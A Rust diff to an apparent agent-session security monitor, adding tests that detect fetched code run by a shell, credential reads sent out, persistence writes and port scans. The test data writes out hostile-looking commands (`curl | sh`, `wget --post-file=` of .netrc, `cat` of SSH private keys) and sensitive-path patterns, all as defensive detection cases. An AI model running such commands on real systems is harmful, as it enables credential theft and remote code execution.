@@ -144,11 +144,7 @@ impl Tracked {
     }
 
     fn apply_with(&mut self, e: &Event, lineage: &[LineageNode], h: &Heuristics) -> bool {
-        let folded = match &e.detail {
-            Detail::Fork(_) => false,
-            Detail::Exec(x) => x.result == 0,
-            _ => true,
-        };
+        let folded = into_ring(e);
         let changed = self.s.apply(Observed { event: e, lineage }, h);
         if folded {
             let last = self
@@ -1138,6 +1134,17 @@ fn heuristics() -> impl Strategy<Value = Heuristics> {
         })
 }
 
+/// Whether an event applied to a session enters its recent ring: Activity and Unix-socket
+/// connects feed the durable facts only.
+fn into_ring(e: &Event) -> bool {
+    match &e.detail {
+        Detail::Fork(_) | Detail::Activity(_) => false,
+        Detail::Exec(x) => x.result == 0,
+        Detail::Connect(c) => !matches!(c.addr, SockAddr::Unix { .. }),
+        _ => true,
+    }
+}
+
 fn op_event(op: &Op, t: u64) -> Option<Event> {
     const COMMS: &[&str] = &["", "sh", "bash", "node", "curl"];
     let comm = |pid: u32| COMMS[pid as usize % COMMS.len()];
@@ -1213,7 +1220,8 @@ proptest! {
                     if let Some(e) = op_event(op, t) {
                         let changed = tr.apply(&e, h);
                         prop_assert_eq!(changed, &before != tr.s.context());
-                        stale = false;
+                        // An event outside the ring re-derives no sequence flag.
+                        stale &= !into_ring(&e);
                     }
                 }
             }
@@ -2289,4 +2297,304 @@ fn a_preloaded_library_the_session_wrote() {
         &h,
     );
     assert!(s.context().history.loader_preload_written);
+}
+
+#[test]
+fn data_piped_into_an_interpreter_running_its_own_program_is_not_code() {
+    use crate::event::{ExecFacts, FdKind};
+    let h = Heuristics::default();
+    for argv in [
+        &["python3", "-m", "json.tool"][..],
+        &["python3", "-c", "import sys; print(len(sys.stdin.read()))"],
+        &["sh", "-c", "wc -l"],
+    ] {
+        let mut s = SessionContext::new(1);
+        fold(
+            &mut s,
+            &[
+                with_facts(
+                    exec_child(T0, 10, 1, "/usr/bin/curl", &["curl", "-s", "u"]),
+                    ExecFacts {
+                        stdio: vec![stdio(1, FdKind::Pipe, 77, None)],
+                        ..ExecFacts::default()
+                    },
+                ),
+                with_facts(
+                    exec_child(T0, 11, 1, &format!("/usr/bin/{}", argv[0]), argv),
+                    ExecFacts {
+                        stdio: vec![stdio(0, FdKind::Pipe, 77, None)],
+                        ..ExecFacts::default()
+                    },
+                ),
+            ],
+            &h,
+        );
+        assert!(!s.context().history.fetched_code_piped, "{argv:?}");
+    }
+}
+
+#[test]
+fn fetched_code_and_what_it_starts_calling_out() {
+    use crate::event::{ExecFacts, FdKind};
+    let h = Heuristics::default();
+    // curl -o x.sh; sh x.sh; x.sh's child curl beacons: the second stage calls home.
+    let mut s = SessionContext::new(1);
+    fold(
+        &mut s,
+        &[
+            exec_child(T0, 10, 1, "/usr/bin/curl", &["curl", "-o", "/w/x.sh", "u"]),
+            open(T0 + 1, 10, "/w/x.sh", WRITE_NEW),
+            exec_child(T0 + 2, 11, 1, "/usr/bin/sh", &["sh", "/w/x.sh"]),
+            open(T0 + 3, 11, "/w/x.sh", 0),
+        ],
+        &h,
+    );
+    assert!(s.context().history.fetched_file_run);
+    assert!(!s.context().history.fetched_code_then_external);
+    fold(
+        &mut s,
+        &[
+            exec_child(T0 + 4, 12, 11, "/usr/bin/curl", &["curl", "http://h/b"]),
+            connect(T0 + 5, 12, "198.51.100.2", 80),
+        ],
+        &h,
+    );
+    assert!(s.context().history.fetched_code_then_external);
+    // The same shape with a script the agent wrote itself: nothing fetched calls out.
+    let mut s = SessionContext::new(2);
+    fold(
+        &mut s,
+        &[
+            exec_child(T0, 10, 1, "/usr/bin/cat", &["cat"]),
+            open(T0 + 1, 10, "/w/x.sh", WRITE_NEW),
+            exec_child(T0 + 2, 11, 1, "/usr/bin/sh", &["sh", "/w/x.sh"]),
+            open(T0 + 3, 11, "/w/x.sh", 0),
+            exec_child(T0 + 4, 12, 11, "/usr/bin/curl", &["curl", "http://h/b"]),
+            connect(T0 + 5, 12, "198.51.100.2", 80),
+        ],
+        &h,
+    );
+    assert!(!s.context().history.fetched_code_then_external);
+    // `curl | sh` where the shell started first: marked when the pipe's writer shows up.
+    let mut s = SessionContext::new(3);
+    fold(
+        &mut s,
+        &[
+            with_facts(
+                exec_child(T0, 11, 1, "/usr/bin/sh", &["sh"]),
+                ExecFacts {
+                    stdio: vec![stdio(0, FdKind::Pipe, 5, None)],
+                    ..ExecFacts::default()
+                },
+            ),
+            with_facts(
+                exec_child(T0 + 1, 10, 1, "/usr/bin/curl", &["curl", "-s", "u"]),
+                ExecFacts {
+                    stdio: vec![stdio(1, FdKind::Pipe, 5, None)],
+                    ..ExecFacts::default()
+                },
+            ),
+            connect(T0 + 2, 10, "198.51.100.2", 80),
+        ],
+        &h,
+    );
+    assert!(
+        !s.context().history.fetched_code_then_external,
+        "curl's own fetch"
+    );
+    fold(
+        &mut s,
+        &[
+            exec_child(T0 + 3, 12, 11, "/usr/bin/id", &["id"]),
+            connect(T0 + 4, 11, "198.51.100.2", 4444),
+        ],
+        &h,
+    );
+    assert!(s.context().history.fetched_code_then_external);
+}
+
+#[test]
+fn credential_reads_that_are_not_theft() {
+    let h = Heuristics {
+        sensitive_path_prefixes: vec!["/etc/shadow".into()],
+        sensitive_path_patterns: vec!["/.ssh/id_".into(), "/.netrc".into(), "/.env$".into()],
+        ..Heuristics::default()
+    };
+    let reads = |events: &[Event]| {
+        let mut s = SessionContext::new(1);
+        fold(&mut s, events, &h);
+        s.context().history.sensitive_read_count
+    };
+    // ssh reading its key, sudo its policy, wget the .netrc it was not told about.
+    assert_eq!(
+        reads(&[
+            exec_child(T0, 10, 1, "/usr/bin/ssh", &["ssh", "host"]),
+            open(T0 + 1, 10, "/home/u/.ssh/id_ed25519", 0),
+            exec_child(T0 + 2, 11, 1, "/usr/bin/wget", &["wget", "http://h/f"]),
+            open(T0 + 3, 11, "/home/u/.netrc", 0),
+            exec_child(T0 + 4, 12, 1, "/usr/bin/sudo", &["sudo", "-n", "true"]),
+            open(T0 + 5, 12, "/etc/shadow", 0),
+        ]),
+        0
+    );
+    // wget told to post the .netrc, cat reading the key: theft.
+    assert_eq!(
+        reads(&[
+            exec_child(
+                T0,
+                11,
+                1,
+                "/usr/bin/wget",
+                &["wget", "--post-file=/home/u/.netrc", "u"]
+            ),
+            open(T0 + 1, 11, "/home/u/.netrc", 0),
+            exec_child(
+                T0 + 2,
+                12,
+                1,
+                "/usr/bin/cat",
+                &["cat", "/home/u/.ssh/id_rsa"]
+            ),
+            open(T0 + 3, 12, "/home/u/.ssh/id_rsa", 0),
+        ]),
+        2
+    );
+    // A project's own .env the session wrote; a directory listing; `.envrc`.
+    assert_eq!(
+        reads(&[
+            open(T0, 10, "/w/app/.env", WRITE_NEW),
+            open(T0 + 1, 11, "/w/app/.env", 0),
+            open(T0 + 2, 11, "/home/u/.ssh/id_dir", 0o200000),
+            open(T0 + 3, 11, "/w/app/.envrc", 0),
+        ]),
+        0
+    );
+    assert_eq!(reads(&[open(T0, 11, "/home/u/other/.env", 0)]), 1);
+}
+
+#[test]
+fn a_hook_in_the_sessions_own_repository_is_not_persistence() {
+    let h = Heuristics::default();
+    let mut s = SessionContext::new(1);
+    fold(
+        &mut s,
+        &[
+            // `git init` copies sample hooks before it writes the config.
+            open(T0, 10, "/w/r/.git/hooks/pre-commit.sample", WRITE_NEW),
+            open(T0 + 1, 10, "/w/r/.git/config", WRITE_NEW),
+            open(T0 + 2, 11, "/w/r/.git/hooks/pre-commit", WRITE_NEW),
+        ],
+        &h,
+    );
+    assert!(!s.context().history.persistence_written);
+    fold(
+        &mut s,
+        &[open(
+            T0 + 3,
+            11,
+            "/home/u/proj/.git/hooks/post-merge",
+            WRITE_NEW,
+        )],
+        &h,
+    );
+    assert!(s.context().history.persistence_written);
+    assert_eq!(s.context().history.persistence_kinds, ["git_hook"]);
+}
+
+#[test]
+fn denied_persistence_writes_and_sends_by_other_routes() {
+    use crate::event::{Activity, SendVolume, SocketOp, SocketOpKind, TcpState};
+    let h = Heuristics {
+        sensitive_path_patterns: vec!["/.aws/credentials".into()],
+        ..Heuristics::default()
+    };
+    let mut s = SessionContext::new(1);
+    fold(
+        &mut s,
+        &[open_res(T0, 10, "/etc/cron.d/sync", WRITE_NEW, -13)],
+        &h,
+    );
+    assert!(s.context().history.persistence_attempted);
+    // A UDP datagram after a credential read: data went out without a connect.
+    let udp = event(
+        T0 + 2,
+        11,
+        "python3",
+        Detail::Activity(Activity::Socket(SocketOp {
+            op: SocketOpKind::Sendto,
+            result: 40,
+            fd: 3,
+            addr: SockAddr::Inet {
+                addr: "198.51.100.2".parse().unwrap(),
+                port: 53,
+                v4_mapped: false,
+            },
+            len: 40,
+        })),
+    );
+    fold(
+        &mut s,
+        &[open(T0 + 1, 11, "/home/u/.aws/credentials", 0), udp],
+        &h,
+    );
+    assert!(s.context().history.sensitive_then_external);
+    assert_eq!(s.context().history.external_bytes_sent, 40);
+    // An upload that reads the file after connecting: the send after the read counts.
+    let mut s = SessionContext::new(2);
+    let remote = SockAddr::Inet {
+        addr: "198.51.100.2".parse().unwrap(),
+        port: 8080,
+        v4_mapped: false,
+    };
+    fold(
+        &mut s,
+        &[
+            event(
+                T0,
+                12,
+                "curl",
+                Detail::Activity(Activity::Tcp(TcpState {
+                    old: "close",
+                    new: "syn_sent",
+                    local: SockAddr::Unspec,
+                    remote: remote.clone(),
+                })),
+            ),
+            open(T0 + 1, 12, "/home/u/.aws/credentials", 0),
+        ],
+        &h,
+    );
+    assert!(!s.context().history.sensitive_then_external);
+    fold(
+        &mut s,
+        &[event(
+            T0 + 2,
+            12,
+            "curl",
+            Detail::Activity(Activity::SendVolume(SendVolume {
+                total_bytes: 300,
+                last_bytes: 300,
+                protocol: 6,
+                remote,
+                local_port: 40000,
+            })),
+        )],
+        &h,
+    );
+    assert!(s.context().history.sensitive_then_external);
+}
+
+#[test]
+fn a_port_scan_tries_many_ports_on_one_host() {
+    let h = Heuristics::default();
+    let mut s = SessionContext::new(1);
+    let events: Vec<Event> = [21, 22, 80, 443, 8080]
+        .iter()
+        .enumerate()
+        .map(|(i, p)| connect(T0 + i as u64, 10, "198.51.100.2", *p))
+        .collect();
+    fold(&mut s, &events, &h);
+    assert_eq!(s.context().history.ports_probed_max, 5);
+    fold(&mut s, &[connect(T0 + 9, 10, "203.0.113.9", 443)], &h);
+    assert_eq!(s.context().history.ports_probed_max, 5);
 }
